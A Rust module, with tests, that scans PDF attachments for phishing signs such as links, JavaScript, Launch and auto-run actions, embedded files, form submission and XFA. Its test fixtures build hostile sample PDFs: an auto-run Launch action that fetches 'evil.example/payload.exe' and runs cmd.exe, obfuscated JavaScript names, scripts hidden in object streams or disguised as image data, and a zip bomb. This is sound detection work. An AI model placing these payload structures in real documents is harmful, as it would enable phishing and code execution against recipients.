//! Facts about a PDF attachment that matter for phishing: where its links go and whether
//! it carries active content (JavaScript, launch actions, actions that run on their own,
//! embedded files, form submission, XFA), found without a PDF parser.
//!
//! [`scan_pdf`] is a bounded byte scanner, not a PDF reader. It walks the name tokens of
//! the file (decoding `#xx` escapes, so `/J#61vaScript` is `/JavaScript`), reads the
//! string after `/URI` (and URL-like file specifications after `/F`), and inflates
//! `/FlateDecode` streams so that object streams, where annotations and scripts like to
//! hide, are scanned the same way. Image, font, cross-reference and attached-file streams
//! are skipped, since their bytes are data rather than PDF syntax. Every cost is bounded
//! by [`PdfLimits`]; when a bound is reached the facts found so far are returned with
//! [`PdfFacts::truncated`] set. No input makes it panic, and nothing recurses.

#![deny(clippy::indexing_slicing)]

use std::collections::VecDeque;
use std::io::Read;

use flate2::read::{DeflateDecoder, ZlibDecoder};
use memchr::{memchr, memmem};

/// What a PDF contains that matters for phishing: its link targets and active content.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct PdfFacts {
    /// Link targets: `/URI` action targets, plus file specifications (`/F`, `/UF`, as in
    /// `/Launch`, `/GoToR` or `/SubmitForm`) that look like URLs; deduplicated, in the
    /// order found (the file's own bytes first, then inflated streams).
    pub uris: Vec<String>,
    /// Whether it has JavaScript (`/JS` or `/JavaScript`).
    pub javascript: bool,
    /// Whether it has a `/Launch` action, which opens a file or runs a program.
    pub launch: bool,
    /// Whether an action runs by itself: `/OpenAction` with an action (not a mere page
    /// destination) or `/AA` (additional actions) with entries.
    pub open_action: bool,
    /// Whether it carries attached files (`/EmbeddedFile`, `/EmbeddedFiles`).
    pub embedded_files: bool,
    /// Whether it has a `/SubmitForm` action, which sends form fields somewhere.
    pub submit_form: bool,
    /// Whether it has an XFA form (`/XFA`).
    pub xfa: bool,
    /// Whether it is encrypted (`/Encrypt`); its strings and streams are then unreadable
    /// here, so the other facts may be incomplete.
    pub encrypted: bool,
    /// Whether a limit was hit, so the facts may be incomplete.
    pub truncated: bool,
}

/// Bounds on the work one PDF may cost.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PdfLimits {
    /// Most input bytes looked at; the rest is ignored.
    pub max_input: usize,
    /// Most streams inflated.
    pub max_streams: usize,
    /// Most bytes produced by inflating, over all streams together.
    pub max_inflated_total: usize,
    /// Most URIs kept.
    pub max_uris: usize,
}

impl Default for PdfLimits {
    fn default() -> Self {
        Self {
            max_input: 20 * 1024 * 1024,
            max_streams: 500,
            max_inflated_total: 20 * 1024 * 1024,
            max_uris: 200,
        }
    }
}

/// Most decoded bytes kept from one string.
const MAX_STRING: usize = 16 * 1024;
/// Most input bytes one string may span before it is taken as unterminated.
const MAX_STRING_SCAN: usize = 64 * 1024;
/// Most input bytes string parsing may examine in all (keeps hostile input linear).
const STRING_WORK: usize = 16 * 1024 * 1024;
/// Most `/OpenAction n g R` references looked up in the file.
const MAX_RESOLVES: usize = 8;
/// How far before `stream` a dictionary is looked for when no `obj` header is found.
const DICT_WINDOW: usize = 4096;
/// Longest name kept; longer ones match nothing we look for.
const NAME_CAP: usize = 24;

/// Names that mark a stream as binary data (images, fonts, xref tables, attached files,
/// image codecs): it is neither inflated nor scanned.
const BINARY_NAMES: &str = "Image XRef Length1 Length2 Length3 Type1C CIDFontType0C OpenType \
    EmbeddedFile DCTDecode JPXDecode JBIG2Decode CCITTFaxDecode";

/// Scans a PDF's bytes for link targets and active content, within `limits`.
///
/// Never fails: bytes that are not a PDF, or a damaged one, simply yield fewer facts.
pub fn scan_pdf(data: &[u8], limits: &PdfLimits) -> PdfFacts {
    let mut facts = PdfFacts::default();
    let root = match data.get(..limits.max_input) {
        Some(head) if head.len() < data.len() => {
            facts.truncated = true;
            head
        }
        _ => data,
    };
    let mut scanner = Scanner {
        limits,
        root,
        facts,
        streams: 0,
        inflate_left: limits.max_inflated_total,
        string_work: STRING_WORK,
        resolves: 0,
    };
    // Inflated streams are queued, not recursed into; their total size is bounded.
    let mut queue = VecDeque::new();
    scanner.scan_buffer(root, &mut queue);
    while let Some(inflated) = queue.pop_front() {
        scanner.scan_buffer(&inflated, &mut queue);
    }
    scanner.facts
}

/// How a stream's body is treated, from its dictionary.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    /// No filter: the body is read as PDF syntax.
    Plain,
    /// `/FlateDecode` first: the body is inflated and the result scanned.
    Flate,
    /// Binary data or a filter we do not decode: skipped.
    Skip,
}

/// Scanning state shared by the file and every inflated stream.
struct Scanner<'a> {
    limits: &'a PdfLimits,
    root: &'a [u8],
    facts: PdfFacts,
    streams: usize,
    inflate_left: usize,
    string_work: usize,
    resolves: usize,
}

impl Scanner<'_> {
    /// Scans one buffer: names between streams, and each stream by its kind.
    fn scan_buffer(&mut self, buf: &[u8], queue: &mut VecDeque<Vec<u8>>) {
        let mut cursor = 0;
        while let Some(kw) = find_stream_keyword(buf, cursor) {
            self.scan_names(sub(buf, cursor, kw), buf);
            let start = body_start(buf, kw + b"stream".len());
            let (end, next) = match memmem::find(sub(buf, start, buf.len()), b"endstream") {
                Some(i) => (start + i, start + i + b"endstream".len()),
                None => (buf.len(), buf.len()),
            };
            let dict = dict_region(buf, cursor, kw);
            self.stream(dict, sub(buf, start, end), buf, queue);
            cursor = next;
        }
        self.scan_names(sub(buf, cursor, buf.len()), buf);
    }

    /// Handles one stream body according to its dictionary.
    fn stream(&mut self, dict: &[u8], body: &[u8], buf: &[u8], queue: &mut VecDeque<Vec<u8>>) {
        let kind = stream_kind(dict);
        if kind == Kind::Flate {
            if self.streams >= self.limits.max_streams || self.inflate_left == 0 {
                self.facts.truncated = true;
            } else {
                self.streams += 1;
                let mut out = inflate(body, self.inflate_left);
                if out.len() > self.inflate_left {
                    out.truncate(self.inflate_left);
                    self.facts.truncated = true;
                }
                self.inflate_left -= out.len();
                if !out.is_empty() {
                    queue.push_back(out);
                }
            }
        }
        // A body holding whole objects is a disguise rather than data: read it as syntax.
        if kind == Kind::Plain || memmem::find(body, b"endobj").is_some() {
            self.scan_names(body, buf);
        }
    }

    /// Looks at every name token in `region`; `whole` is the buffer it belongs to.
    fn scan_names(&mut self, region: &[u8], whole: &[u8]) {
        let (mut i, mut name) = (0, Vec::new());
        while let Some(off) = memchr(b'/', sub(region, i, region.len())) {
            let end = read_name(region, i + off + 1, &mut name);
            i = end;
            let value = skip_space(region, end);
            let at = region.get(value).copied();
            let is_ref = parse_ref(region, value).is_some();
            let facts = &mut self.facts;
            match name.as_slice() {
                b"URI" => i = self.string_value(region, value, false).unwrap_or(end),
                b"F" | b"UF" => i = self.string_value(region, value, true).unwrap_or(end),
                b"JavaScript" => facts.javascript = true,
                b"JS" if matches!(at, Some(b'(' | b'<')) || is_ref => facts.javascript = true,
                b"Launch" => facts.launch = true,
                b"OpenAction" if !facts.open_action => {
                    self.facts.open_action = self.open_action_runs(region, value, whole);
                }
                b"AA" if is_ref || is_nonempty_dict(region, value) => facts.open_action = true,
                b"EmbeddedFile" | b"EmbeddedFiles" => facts.embedded_files = true,
                b"SubmitForm" => facts.submit_form = true,
                b"XFA" if at == Some(b'[') || is_ref => facts.xfa = true,
                b"Encrypt" if at == Some(b'<') || is_ref => facts.encrypted = true,
                _ => {}
            }
        }
    }

    /// Reads the string at `pos` and keeps it as a URI (only if it looks like a URL when
    /// `url_only`); returns where the string ends, or `None` when there is no string.
    fn string_value(&mut self, src: &[u8], pos: usize, url_only: bool) -> Option<usize> {
        let parsed = match (src.get(pos), src.get(pos + 1)) {
            (Some(b'('), _) => parse_literal(src, pos + 1, &mut self.string_work),
            (Some(b'<'), next) if next != Some(&b'<') => {
                parse_hex(src, pos + 1, &mut self.string_work)
            }
            _ => return None,
        };
        if self.string_work == 0 {
            self.facts.truncated = true;
        }
        let (bytes, end) = parsed?;
        let text = decode_text(&bytes);
        if !url_only || looks_like_url(&text) {
            self.push_uri(&text);
        }
        Some(end)
    }

    /// Keeps one URI: trimmed, tabs and newlines removed, deduplicated, within the limit.
    fn push_uri(&mut self, text: &str) {
        let uri: String = text
            .trim_matches(|c: char| c.is_whitespace() || c == '\0')
            .chars()
            .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
            .collect();
        if uri.is_empty() || uri.chars().any(char::is_control) || self.facts.uris.contains(&uri) {
            return;
        }
        if self.facts.uris.len() >= self.limits.max_uris {
            self.facts.truncated = true;
            return;
        }
        self.facts.uris.push(uri);
    }

    /// Whether the `/OpenAction` value at `pos` is an action rather than a destination
    /// (an array). An indirect reference is looked up as `n g obj`; when it cannot be
    /// found (it may sit in an object stream) it is taken to be an action.
    fn open_action_runs(&mut self, src: &[u8], pos: usize, whole: &[u8]) -> bool {
        match src.get(pos) {
            Some(b'[') => false,
            Some(b'<') => true,
            _ => {
                let Some((num, generation)) = parse_ref(src, pos) else {
                    return false;
                };
                if self.resolves >= MAX_RESOLVES {
                    return true;
                }
                self.resolves += 1;
                let header = format!("{num} {generation} obj");
                let found = [whole, self.root]
                    .into_iter()
                    .find_map(|hay| object_is_array(hay, header.as_bytes()));
                found != Some(true)
            }
        }
    }
}

/// `buf[from..to]`, or nothing when out of range.
fn sub(buf: &[u8], from: usize, to: usize) -> &[u8] {
    buf.get(from..to).unwrap_or_default()
}

/// PDF white-space characters.
fn is_space(b: u8) -> bool {
    b"\0\t\n\x0c\r ".contains(&b)
}

/// PDF delimiter characters.
fn is_delimiter(b: u8) -> bool {
    b"()<>[]{}/%".contains(&b)
}

/// The first position at or after `pos` that is not white space.
fn skip_space(src: &[u8], mut pos: usize) -> usize {
    while src.get(pos).is_some_and(|&b| is_space(b)) {
        pos += 1;
    }
    pos
}

/// The value of one hex digit.
fn hex_value(b: u8) -> Option<u8> {
    char::from(b).to_digit(16).map(|d| d as u8)
}

/// The next `stream` keyword at or after `from`: after white space or `>>`, before an EOL.
fn find_stream_keyword(buf: &[u8], from: usize) -> Option<usize> {
    memmem::find_iter(sub(buf, from, buf.len()), b"stream")
        .map(|i| from + i)
        .find(|&p| {
            let before = p.checked_sub(1).and_then(|q| buf.get(q)).copied();
            matches!(before, Some(b) if is_space(b) || b == b'>')
                && matches!(buf.get(p + b"stream".len()), Some(b'\r' | b'\n'))
        })
}

/// Where a stream's data starts: after the EOL that follows `stream`.
fn body_start(buf: &[u8], pos: usize) -> usize {
    match (buf.get(pos), buf.get(pos + 1)) {
        (Some(b'\r'), Some(b'\n')) => pos + 2,
        (Some(b'\r' | b'\n'), _) => pos + 1,
        _ => pos,
    }
}

/// The bytes holding the dictionary of the stream whose keyword is at `kw`: from the last
/// `obj` header before it, else a window before it.
fn dict_region(buf: &[u8], from: usize, kw: usize) -> &[u8] {
    let region = sub(buf, from, kw);
    let start = memmem::rfind(region, b"obj")
        .map_or(region.len().saturating_sub(DICT_WINDOW), |i| {
            i + b"obj".len()
        });
    sub(region, start, region.len())
}

/// How a stream with dictionary `dict` is treated.
fn stream_kind(dict: &[u8]) -> Kind {
    let (mut first_filter_is_flate, mut i, mut name) = (None, 0, Vec::new());
    while let Some(off) = memchr(b'/', sub(dict, i, dict.len())) {
        let end = read_name(dict, i + off + 1, &mut name);
        i = end;
        if BINARY_NAMES.split(' ').any(|n| n.as_bytes() == name) {
            return Kind::Skip;
        }
        if name == b"Filter" && first_filter_is_flate.is_none() {
            let mut j = skip_space(dict, end);
            if dict.get(j) == Some(&b'[') {
                j = skip_space(dict, j + 1);
            }
            let first_is_name = dict.get(j) == Some(&b'/');
            if first_is_name {
                read_name(dict, j + 1, &mut name);
            }
            first_filter_is_flate =
                Some(first_is_name && matches!(name.as_slice(), b"FlateDecode" | b"Fl"));
        }
    }
    match first_filter_is_flate {
        None => Kind::Plain,
        Some(true) => Kind::Flate,
        Some(false) => Kind::Skip,
    }
}

/// Inflates a zlib (or, failing that, raw deflate) stream into at most `left + 1` bytes, so
/// the caller can tell when the output went over. A damaged stream yields what inflated
/// before the damage.
fn inflate(body: &[u8], left: usize) -> Vec<u8> {
    let cap = u64::try_from(left).unwrap_or(u64::MAX).saturating_add(1);
    let mut out = Vec::new();
    // read_to_end keeps the bytes read before an error, which is what we want.
    let _ = ZlibDecoder::new(body).take(cap).read_to_end(&mut out);
    if out.is_empty() {
        let _ = DeflateDecoder::new(body).take(cap).read_to_end(&mut out);
    }
    out
}

/// Reads the name whose first byte (after `/`) is at `pos` into `name`, decoding `#xx`
/// escapes; a name longer than [`NAME_CAP`] is cut after `NAME_CAP + 1` bytes, so it
/// matches nothing we look for. Returns where the name ends.
fn read_name(src: &[u8], mut pos: usize, name: &mut Vec<u8>) -> usize {
    name.clear();
    while let Some(&b) = src.get(pos).filter(|&&b| !is_space(b) && !is_delimiter(b)) {
        pos += 1;
        // `#xx` is the byte 0xxx: `/J#61vaScript` is `/JavaScript`.
        let escaped = (b == b'#')
            .then(|| Some(hex_value(*src.get(pos)?)? << 4 | hex_value(*src.get(pos + 1)?)?));
        let byte = match escaped.flatten() {
            Some(decoded) => {
                pos += 2;
                decoded
            }
            None => b,
        };
        if name.len() <= NAME_CAP {
            name.push(byte);
        }
    }
    pos
}

/// Reads an unsigned integer at `pos`.
fn parse_uint(src: &[u8], pos: usize) -> Option<(u64, usize)> {
    let digits = sub(src, pos, src.len())
        .iter()
        .take_while(|d| d.is_ascii_digit())
        .count();
    let text = std::str::from_utf8(sub(src, pos, pos + digits)).ok()?;
    Some((text.parse().ok()?, pos + digits))
}

/// Reads an indirect reference `n g R` at `pos`.
fn parse_ref(src: &[u8], pos: usize) -> Option<(u64, u64)> {
    let (num, i) = parse_uint(src, pos)?;
    let j = skip_space(src, i);
    let (generation, k) = parse_uint(src, j).filter(|_| j > i)?;
    let l = skip_space(src, k);
    (l > k && src.get(l) == Some(&b'R')).then_some((num, generation))
}

/// Whether a dictionary with at least one entry starts at `pos`.
fn is_nonempty_dict(src: &[u8], pos: usize) -> bool {
    src.get(pos..pos + 2) == Some(b"<<") && src.get(skip_space(src, pos + 2)) != Some(&b'>')
}

/// Whether the object with this `n g obj` header starts with an array; `None` when the
/// header is not in `hay`.
fn object_is_array(hay: &[u8], header: &[u8]) -> Option<bool> {
    memmem::find_iter(hay, header)
        .find(|&p| {
            !p.checked_sub(1)
                .and_then(|q| hay.get(q))
                .is_some_and(u8::is_ascii_digit)
        })
        .map(|p| hay.get(skip_space(hay, p + header.len())) == Some(&b'['))
}

/// Escapes of one letter in literal strings, and what they stand for.
const ESCAPES: [(u8, u8); 5] = [
    (b'n', b'\n'),
    (b'r', b'\r'),
    (b't', b'\t'),
    (b'b', 8),
    (b'f', 12),
];

/// Reads a literal string whose first byte (after `(`) is at `pos`: balanced parentheses,
/// backslash escapes, octal codes and line continuations. Returns its bytes (at most
/// [`MAX_STRING`]) and where it ends, or `None` when it is unterminated or the work
/// budget runs out.
fn parse_literal(src: &[u8], mut pos: usize, work: &mut usize) -> Option<(Vec<u8>, usize)> {
    let limit = pos.saturating_add(MAX_STRING_SCAN);
    let (mut out, mut depth) = (Vec::new(), 1usize);
    while pos < limit && *work > 0 {
        let b = *src.get(pos)?;
        *work -= 1;
        pos += 1;
        let byte = match (b, src.get(pos).copied()) {
            (b'\\', Some(b'0'..=b'7')) => {
                // Up to three octal digits; values above \377 wrap, as readers do.
                let digits = sub(src, pos, pos + 3)
                    .iter()
                    .take_while(|d| matches!(d, b'0'..=b'7'));
                let (value, count) = digits.fold((0u8, 0), |(v, n), d| {
                    (v.wrapping_mul(8).wrapping_add(d - b'0'), n + 1)
                });
                pos += count;
                value
            }
            (b'\\', Some(b'\r' | b'\n')) => {
                pos = body_start(src, pos); // a line continuation: nothing
                continue;
            }
            (b'\\', Some(e)) => {
                pos += 1;
                ESCAPES.iter().find(|(k, _)| *k == e).map_or(e, |&(_, v)| v)
            }
            (b'\r', next) => {
                pos += usize::from(next == Some(b'\n'));
                b'\n'
            }
            (b'(', _) => {
                depth += 1;
                b
            }
            (b')', _) if depth == 1 => return Some((out, pos)),
            (b')', _) => {
                depth -= 1;
                b
            }
            _ => b,
        };
        if out.len() < MAX_STRING {
            out.push(byte);
        }
    }
    None
}

/// Reads a hex string whose first byte (after `<`) is at `pos`; an odd last digit counts
/// as followed by 0. Returns its bytes and where it ends, or `None` when it is malformed.
fn parse_hex(src: &[u8], mut pos: usize, work: &mut usize) -> Option<(Vec<u8>, usize)> {
    let limit = pos.saturating_add(MAX_STRING_SCAN);
    let mut out = Vec::new();
    let mut high: Option<u8> = None;
    while pos < limit && *work > 0 {
        let b = *src.get(pos)?;
        *work -= 1;
        pos += 1;
        if b == b'>' {
            if let Some(h) = high {
                out.push(h << 4);
            }
            return Some((out, pos));
        }
        if is_space(b) {
            continue;
        }
        let digit = hex_value(b)?;
        match high.take() {
            Some(h) if out.len() < MAX_STRING => out.push(h << 4 | digit),
            Some(_) => {}
            None => high = Some(digit),
        }
    }
    None
}

/// Decodes a PDF text string: UTF-16 with a byte-order mark, UTF-8 (with or without a
/// mark), else one byte per character (PDFDocEncoding, approximated by Latin-1).
fn decode_text(bytes: &[u8]) -> String {
    match bytes {
        [0xFE, 0xFF, rest @ ..] => utf16(rest, u16::from_be_bytes),
        [0xFF, 0xFE, rest @ ..] => utf16(rest, u16::from_le_bytes),
        [0xEF, 0xBB, 0xBF, rest @ ..] => String::from_utf8_lossy(rest).into_owned(),
        _ => match std::str::from_utf8(bytes) {
            Ok(text) => text.to_owned(),
            Err(_) => bytes.iter().map(|&b| char::from(b)).collect(),
        },
    }
}

/// Decodes UTF-16 code units read with `unit`; a lone last byte is dropped.
fn utf16(bytes: &[u8], unit: fn([u8; 2]) -> u16) -> String {
    let (pairs, _) = bytes.as_chunks::<2>();
    char::decode_utf16(pairs.iter().map(|&pair| unit(pair)))
        .map(|c| c.unwrap_or(char::REPLACEMENT_CHARACTER))
        .collect()
}

/// Whether a file specification looks like a URL (`scheme://…`, `mailto:`, `www.`).
fn looks_like_url(text: &str) -> bool {
    let text = text.trim_start();
    if let Some((scheme, _)) = text.split_once("://") {
        return scheme.starts_with(|c: char| c.is_ascii_alphabetic())
            && scheme
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'));
    }
    let starts = |prefix: &[u8]| {
        text.as_bytes()
            .get(..prefix.len())
            .is_some_and(|head| head.eq_ignore_ascii_case(prefix))
    };
    starts(b"www.") || starts(b"mailto:")
}

#[cfg(test)]
#[allow(clippy::indexing_slicing)]
mod tests {
    use super::*;
    use flate2::Compression;
    use flate2::write::ZlibEncoder;
    use std::io::Write;
    use std::time::{Duration, Instant};

    /// A PDF made of these objects (numbered from 1) and a trailer with `extra` entries.
    fn pdf(objects: &[&[u8]], extra: &str) -> Vec<u8> {
        let mut out = b"%PDF-1.7\n%\xE2\xE3\xCF\xD3\n".to_vec();
        for (i, body) in objects.iter().enumerate() {
            out.extend_from_slice(format!("{} 0 obj\n", i + 1).as_bytes());
            out.extend_from_slice(body);
            out.extend_from_slice(b"\nendobj\n");
        }
        let trailer = format!(
            "xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size {} /Root 1 0 R {extra}>>\nstartxref\n0\n%%EOF\n",
            objects.len() + 1
        );
        out.extend_from_slice(trailer.as_bytes());
        out
    }

    /// A stream object with dictionary entries `dict` and body `data`.
    fn stream(dict: &str, data: &[u8]) -> Vec<u8> {
        let mut out = format!("<< {dict} /Length {} >>\nstream\n", data.len()).into_bytes();
        out.extend_from_slice(data);
        out.extend_from_slice(b"\nendstream");
        out
    }

    fn deflate(data: &[u8]) -> Vec<u8> {
        let mut encoder = ZlibEncoder::new(Vec::new(), Compression::fast());
        encoder.write_all(data).unwrap();
        encoder.finish().unwrap()
    }

    const CATALOG: &[u8] = b"<< /Type /Catalog /Pages 2 0 R >>";
    const PAGES: &[u8] = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>";
    const PAGE: &[u8] =
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Annots [5 0 R] >>";

    /// A one-page PDF whose page has a compressed content stream and annotation `annot`.
    fn with_annotation(annot: &[u8]) -> Vec<u8> {
        let content = stream(
            "/Filter /FlateDecode",
            &deflate(b"BT /F1 12 Tf 72 712 Td (Hello) Tj ET"),
        );
        pdf(&[CATALOG, PAGES, PAGE, &content, annot], "")
    }

    fn link(uri: &str) -> Vec<u8> {
        format!("<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI {uri} >> >>")
            .into_bytes()
    }

    fn scan(data: &[u8]) -> PdfFacts {
        scan_pdf(data, &PdfLimits::default())
    }

    #[test]
    fn plain_uri() {
        let facts = scan(&with_annotation(&link("(https://example.com/login?a=1)")));
        assert_eq!(
            facts,
            PdfFacts {
                uris: vec!["https://example.com/login?a=1".into()],
                ..PdfFacts::default()
            }
        );
    }

    #[test]
    fn utf16_hex_uri() {
        let uri = "https://exämple.com/ü";
        let mut hex = String::from("<FE FF");
        for unit in uri.encode_utf16() {
            hex.push_str(&format!("{unit:04x}"));
        }
        hex.push('>');
        let facts = scan(&with_annotation(&link(&hex)));
        assert_eq!(facts.uris, [uri]);
        // A plain hex string, odd digit count: "http://a.b/" + 0x70 ('p').
        let facts = scan(&with_annotation(&link("<687474703a2f2f612e622f7>")));
        assert_eq!(facts.uris, ["http://a.b/p"]);
    }

    #[test]
    fn escaped_uri() {
        let annot = link(r"(https://example.com/p\(1\)?q=(x)&r=\\z\101\60 (ok))");
        let facts = scan(&with_annotation(&annot));
        assert_eq!(facts.uris, [r"https://example.com/p(1)?q=(x)&r=\zA0 (ok)"]);
        let facts = scan(&with_annotation(&link("(https://exa\\\r\nmple.com/\\t)")));
        assert_eq!(facts.uris, ["https://example.com/"]);
        // The same URI twice is kept once.
        let twice = [link("(https://a.example/)"), link("(https://a.example/)")].concat();
        assert_eq!(scan(&with_annotation(&twice)).uris, ["https://a.example/"]);
    }

    #[test]
    fn uri_in_object_stream() {
        let objects = b"5 0 6 70 \
            << /Type /Annot /Subtype /Link /A << /S /URI /URI (https://hidden.example/x) >> >>\n\
            << /S /JavaScript /JS (app.alert\\(1\\)) >>";
        let objstm = stream(
            "/Type /ObjStm /N 2 /First 9 /Filter [/FlateDecode]",
            &deflate(objects),
        );
        let data = pdf(&[CATALOG, PAGES, PAGE, &objstm], "");
        assert!(memmem::find(&data, b"hidden").is_none());
        let facts = scan(&data);
        assert_eq!(facts.uris, ["https://hidden.example/x"]);
        assert!(facts.javascript);
        assert!(!facts.truncated);
    }

    #[test]
    fn escaped_names() {
        let js = pdf(
            &[b"<< /Type /Catalog /Names << /J#61vaScript 9 0 R >> >>"],
            "",
        );
        assert!(scan(&js).javascript);
        let js = pdf(&[b"<< /S /Foo /#4A#53 (app.alert\\(1\\)) >>"], "");
        assert!(scan(&js).javascript);
        let not_js = pdf(&[b"<< /JSON (x) /JS /Name /JavaScripts 1 >>"], "");
        assert!(!scan(&not_js).javascript);
    }

    #[test]
    fn open_action_and_launch() {
        let catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch \
            /F (http://evil.example/payload.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>";
        let facts = scan(&pdf(&[catalog, PAGES], ""));
        assert!(facts.open_action && facts.launch);
        assert_eq!(facts.uris, ["http://evil.example/payload.exe"]);

        // An open action that only shows a page is not an action.
        let dest: &[u8] = b"<< /Type /Catalog /OpenAction [3 0 R /Fit] >>";
        assert!(!scan(&pdf(&[dest], "")).open_action);
        let indirect: &[u8] = b"<< /Type /Catalog /OpenAction 2 0 R >>";
        assert!(!scan(&pdf(&[indirect, b"[3 0 R /XYZ 0 0 0]"], "")).open_action);
        assert!(scan(&pdf(&[indirect, b"<< /S /GoTo /D [3 0 R /Fit] >>"], "")).open_action);
        assert!(scan(&pdf(&[indirect], "")).open_action);
        // Additional actions with entries run by themselves; an empty /AA does not.
        assert!(scan(&pdf(&[b"<< /Type /Page /AA << /O 7 0 R >> >>"], "")).open_action);
        assert!(!scan(&pdf(&[b"<< /Type /Page /AA << >> >>"], "")).open_action);
    }

    #[test]
    fn other_active_content() {
        let acroform = b"<< /Type /Catalog /AcroForm << /Fields [] /XFA 7 0 R >> \
            /Names << /EmbeddedFiles 8 0 R >> >>";
        let submit = b"<< /S /SubmitForm /F << /FS /URL /F (https://collect.example/post) >> >>";
        let facts = scan(&pdf(&[acroform, submit], "/Encrypt 9 0 R"));
        assert!(facts.xfa && facts.embedded_files && facts.submit_form && facts.encrypted);
        assert_eq!(facts.uris, ["https://collect.example/post"]);
        assert!(!facts.javascript && !facts.launch && !facts.open_action);
    }

    #[test]
    fn clean_pdf_has_no_facts() {
        let catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>";
        let content = stream(
            "/Filter /FlateDecode",
            &deflate(b"BT /F1 12 Tf 72 712 Td (Quarterly report) Tj ET /Im1 Do"),
        );
        // Binary image data that happens to hold names of interest is not syntax.
        let jpeg = stream(
            "/Type /XObject /Subtype /Image /Width 1 /Height 1 /Filter /DCTDecode",
            b"\xFF\xD8/JS (x)/AA<< /O 1 0 R >>/URI (http://noise.example/)\xFF\xD9",
        );
        let pixels = stream(
            "/Subtype /Image /Width 4 /Height 1 /Filter /FlateDecode",
            &deflate(b"/JS 1 0 R/XFA [1 0 R]"),
        );
        let font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>";
        let info = b"<< /Title (Quarterly report) /Producer (Writer) /F 4 >>";
        let data = pdf(
            &[catalog, PAGES, PAGE, &content, font, &jpeg, &pixels, info],
            "/Info 8 0 R /ID [<0123> <4567>]",
        );
        assert_eq!(scan(&data), PdfFacts::default());
    }

    #[test]
    fn objects_disguised_as_image_data_are_seen() {
        let fake = stream(
            "/Subtype /Image /Filter /DCTDecode",
            b"\n9 0 obj << /S /JavaScript /JS (x) >> endobj\n",
        );
        assert!(scan(&pdf(&[CATALOG, &fake], "")).javascript);
    }

    #[test]
    fn zip_bomb_is_cut() {
        let bomb = stream("/Filter /FlateDecode", &deflate(&vec![0u8; 16 << 20]));
        let data = pdf(&[CATALOG, &bomb, &link("(https://after.example/)")], "");
        let limits = PdfLimits {
            max_inflated_total: 1 << 20,
            ..PdfLimits::default()
        };
        let start = Instant::now();
        let facts = scan_pdf(&data, &limits);
        assert!(start.elapsed() < Duration::from_secs(10));
        assert!(facts.truncated);
        assert_eq!(facts.uris, ["https://after.example/"]);
    }

    #[test]
    fn other_limits() {
        let one = stream(
            "/Filter /FlateDecode",
            &deflate(b"<< /URI (http://a.example/) >>"),
        );
        let two = stream(
            "/Filter /FlateDecode",
            &deflate(b"<< /URI (http://b.example/) >>"),
        );
        let data = pdf(&[&one, &two], "");
        let few_streams = PdfLimits {
            max_streams: 1,
            ..PdfLimits::default()
        };
        let facts = scan_pdf(&data, &few_streams);
        assert!(facts.truncated);
        assert_eq!(facts.uris, ["http://a.example/"]);
        let few_uris = PdfLimits {
            max_uris: 1,
            ..PdfLimits::default()
        };
        assert_eq!(scan_pdf(&data, &few_uris), facts);
        let short = PdfLimits {
            max_input: 20,
            ..PdfLimits::default()
        };
        assert!(scan_pdf(&data, &short).truncated);
        assert!(!scan(&data).truncated);
    }

    #[test]
    fn pathological_input_stays_fast() {
        let limits = PdfLimits::default();
        for unit in [
            &b"/URI ("[..],
            b"/URI <",
            b"/F ((((",
            b"/OpenAction 1 0 R ",
            b"/AA<<",
            b">> stream\n",
            b"obj<</Filter/FlateDecode>>stream\nx\x9cendstream ",
        ] {
            let data = unit.repeat((4 << 20) / unit.len());
            let start = Instant::now();
            scan_pdf(&data, &limits);
            assert!(start.elapsed() < Duration::from_secs(20), "{unit:?}");
        }
    }

    use sg_testkit::Rng as XorShift;

    #[test]
    fn hostile_input_never_panics() {
        let objstm = stream(
            "/Type /ObjStm /Filter /FlateDecode",
            &deflate(b"<< /A << /S /URI /URI <FEFF00680074> >> /OpenAction 1 0 R >>"),
        );
        let sample = with_annotation(&link(r"(https://x.example/\(\101\))"));
        let samples = [pdf(&[CATALOG, &objstm], "/Encrypt << >>"), sample];
        let limits = PdfLimits::default();
        for sample in &samples {
            for end in 0..=sample.len() {
                scan_pdf(&sample[..end], &limits);
            }
        }
        let tokens: &[&[u8]] = &[
            b"/URI",
            b"/F",
            b"/JS",
            b"/J#61vaScript",
            b"/OpenAction",
            b"/AA",
            b"/Launch",
            b"/Filter",
            b"/FlateDecode",
            b"/Encrypt",
            b"/XFA",
            b"/#",
            b"#4",
            b"(",
            b")",
            b"\\",
            b"\\1",
            b"<",
            b">",
            b"<<",
            b">>",
            b"[",
            b"]",
            b"1 0 R",
            b"1 0 obj",
            b"stream\n",
            b"stream\r\n",
            b"endstream",
            b"endobj",
            b" ",
            b"\n",
            b"\xFE\xFF",
            b"x\x9c",
            b"%",
        ];
        let mut rng = XorShift::new(0x9E37_79B9_7F4A_7C15);
        for _ in 0..3000 {
            let mut input = Vec::new();
            for _ in 0..rng.below(64) {
                match rng.below(4) {
                    0 => input.push(rng.next_u64() as u8),
                    _ => input.extend_from_slice(tokens[rng.below(tokens.len())]),
                }
            }
            scan_pdf(&input, &limits);
        }
        for _ in 0..1000 {
            let mut input = samples[rng.below(samples.len())].clone();
            for _ in 0..=rng.below(8) {
                let at = rng.below(input.len());
                input[at] = rng.next_u64() as u8;
            }
            input.truncate(rng.below(input.len() + 1));
            scan_pdf(&input, &limits);
        }
    }
}
